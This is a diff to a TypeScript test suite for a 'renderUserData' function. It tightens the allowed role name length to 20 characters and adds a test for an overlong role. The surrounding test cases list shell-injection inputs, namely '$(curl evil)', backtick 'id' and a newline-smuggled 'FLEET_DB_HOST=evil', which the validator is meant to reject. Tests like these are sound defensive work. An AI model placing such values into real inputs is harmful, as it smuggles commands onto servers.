@@ -106,6 +106,7 @@ describe('renderUserData', () => {
     ['role', 'Job'],
     ['role', ''],
     ['role', 'job\nFLEET_DB_HOST=evil'],
+    ['role', 'a'.repeat(21)],
     ['dbHost', '$(curl evil)'],
     ['dbHost', 'db internal'],
     ['dbHost', 'db`id`'],
@@ -174,7 +175,7 @@ describe('user data size', () => {
   const upper = lower.toUpperCase();
   const digits = '0123456789';
   const inputArb: fc.Arbitrary<UserDataInput> = fc.record({
-    role: name(lower, `${lower}${digits}-`, 64),
+    role: name(lower, `${lower}${digits}-`, 20),
     dbHost: name(`${lower}${upper}${digits}.:`, `${lower}${upper}${digits}.:-`, 253),
     vcpus: fc.integer({ min: 1, max: 4096 }),
     workersPerVcpu: fc.integer({ min: 1, max: 64 }),
